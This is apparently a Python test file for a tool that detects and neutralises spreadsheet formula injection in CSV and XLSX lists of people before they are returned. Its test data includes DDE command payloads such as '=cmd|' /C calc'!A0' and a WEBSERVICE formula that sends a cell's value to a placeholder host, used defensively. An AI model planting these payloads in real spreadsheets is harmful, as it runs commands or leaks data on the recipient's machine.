"""What a spreadsheet would run never leaves alive, and what comes back again is the same person."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from collections.abc import Callable
from pathlib import Path

import duckdb
import openpyxl
import pytest
import xlsxwriter
from hypothesis import example, given
from hypothesis import strategies as st

from payung.flows import check_a_list
from payung.intake.reading.live import SIGNS, Finder, guarded_inside, is_live
from payung.intake.reading.read import read
from payung.intake.reading.received import receive
from payung.intake.reading.result import Reading, to_json
from payung.intake.returning.delimited import Dialect, Record, _Guard
from payung.intake.returning.refusals import NotPatchable
from tests.intake.returning.conftest import reading_of, sheet_of

ACCEPTED = [(1, 2, "accepted", "", "")]
LIVE = ("=cmd|' /C calc'!A0", "@SUM(1+1)", "+Ani", "-Budi", "\tTab", " =1+1", "＝1", "|x", "\u200b=1+1")
HARMLESS = ("+6281234567890", "+62 812-3456", "-", "--", "-5.000", '="3302101010100001"', "Siti", "01-02-1990", "")


def test_what_a_spreadsheet_would_run_is_known() -> None:
    assert all(map(is_live, LIVE))
    assert not any(map(is_live, HARMLESS))
    assert guarded_inside("Jl. A,=cmd|'x'!A; no -1") == "Jl. A,'=cmd|'x'!A; no -1"


@given(text=st.text('ab=+-@|%(!"; ,\t\n1\xa0', max_size=30), separator=st.sampled_from(";,\t|"))
def test_the_quick_look_at_a_piece_misses_no_live_cell(text: str, separator: str) -> None:
    cells = re.split(f'[{re.escape(separator)}"\n\r]', text)
    finder = Finder(separator)

    finder.look(text)

    assert finder.count == sum(is_live(cell) for cell in cells if re.match(f"[{SIGNS}]", cell))


@pytest.mark.parametrize(("encoding", "separator"), [("utf-8-sig", ";"), ("utf-16", "\t"), ("cp1252", ",")])
def test_only_live_cells_of_a_csv_change_and_they_come_back_as_they_were(
    tmp_path: Path, encoding: str, separator: str, returned: Callable[..., Path]
) -> None:
    known = [name for name in (*LIVE, *HARMLESS) if name.encode(encoding, "ignore").decode(encoding) == name]
    names = [name for name in known if separator not in name]
    lines = [[f"64740214117000{n:02d}", name, "14/11/1970", "+628123456789"] for n, name in enumerate(names, start=1)]
    text = "\r\n".join(map(separator.join, [["=HYPERLINK(A1)"], ["NIK", "Nama", "Tgl Lahir", "HP"], *lines]))
    path = tmp_path / "daftar.csv"
    path.write_bytes(text.replace("@SUM(1+1)", '"@SUM(1+1)"').encode(encoding))
    reading = read(path, tmp_path / "read")

    back = returned(path, to_json(reading), [(1, row, "accepted", "", "") for row in range(3, len(names) + 3)])

    records = list(csv.reader(io.StringIO(back.read_bytes().decode(encoding)), delimiter=separator))
    assert records[0][0] == "'=HYPERLINK(A1)"
    assert [row[1] for row in records[2:]] == [f"'{name}" if is_live(name) else name for name in names]
    assert all(row[3] == "+628123456789" for row in records[2:])
    again = read(back, tmp_path / "again")
    assert [found.id for found in reading.problems if found.id == "live_cells"] == ["live_cells"]
    assert not [found.id for found in again.problems if found.id == "live_cells"]
    assert _names(again) == _names(reading) == sorted(names)


def _names(reading: Reading) -> list[str]:
    """Return the names of a file's rows as the room receives them."""
    with duckdb.connect() as connection:
        receive(connection, reading)
        return sorted(name for (name,) in connection.sql("SELECT name_raw FROM received").fetchall())


@example(cells=["\t-("], whole=False)
@given(cells=st.lists(st.text('ab=+-@|(!"; ,\t1', max_size=8), min_size=1, max_size=4), whole=st.booleans())
def test_no_cell_of_any_record_stays_live_and_no_other_changes(cells: list[str], whole: bool) -> None:
    out = io.StringIO()
    csv.writer(out, delimiter=";", lineterminator="").writerow(cells)
    raw = '"' + out.getvalue().replace('"', '""') + '"' if whole else out.getvalue()
    guard = _Guard(Dialect("utf-8", "strict", ";", whole_line_quoted=whole))

    after = guard.inert(Record(raw, "", cells))

    written = next(csv.reader([after.raw], delimiter=";"), [])
    written = next(csv.reader(written, delimiter=";"), []) if whole else written
    assert written == after.cells or not any(cells)
    assert not any(map(is_live, after.cells))
    assert all(cell in (before, *_guards(before)) for cell, before in zip(after.cells, cells, strict=True))


def _guards(text: str) -> tuple[str, str]:
    return guarded_inside(text), guarded_inside(f"'{text}")


def _with_formula(path: Path, formula: str) -> Path:
    with xlsxwriter.Workbook(str(path), {"strings_to_formulas": False}) as book:
        page = book.add_worksheet("Data")
        page.write_row(0, 0, ["NIK", "Nama", "Tgl Lahir", "Ket"])
        page.write_row(1, 0, ["6474021411700001", "=cmd|'x'!A", "14/11/1970"])
        page.write_formula(1, 3, f"={formula}", None, "hasil")
    return path


@pytest.mark.parametrize(
    ("formula", "goes_back"),
    [("cmd|'/C calc'!A0", False), ('WEBSERVICE("http://x/"&B2)', False), ('"a|b"&"c"', True), ("SUM(1,2)", True)],
)
def test_formulas_that_call_other_programs_do_not_go_back(
    tmp_path: Path, formula: str, goes_back: bool, returned: Callable[..., Path]
) -> None:
    path = _with_formula(tmp_path / "daftar.xlsx", formula)
    reading = reading_of(sheet_of(1, "Data", ["NIK", "Nama", "Tgl Lahir", "Ket"]))

    if goes_back:
        assert openpyxl.load_workbook(returned(path, reading, ACCEPTED))["Data"]["D2"].data_type == "f"
    else:
        with pytest.raises(NotPatchable, match="call other programs"):
            returned(path, reading, ACCEPTED)


def test_a_workbook_with_such_a_formula_goes_back_as_what_its_cells_show(tmp_path: Path) -> None:
    path = _with_formula(tmp_path / "daftar.xlsx", "cmd|'/C calc'!A0")
    order = check_a_list.Order(path, tmp_path / "1", dt.date(2026, 3, 1), "64.74")

    back = openpyxl.load_workbook(check_a_list.run(order, tell=lambda step: None).returned)

    page = back["Data"]
    assert [(page[cell].value, page[cell].data_type) for cell in ("B2", "D2")] == [("=cmd|'x'!A", "s"), ("hasil", "s")]
    assert page["B2"].quotePrefix
    assert "memanggil program" in str([cell.value for cell in back.worksheets[-1]["A"]])
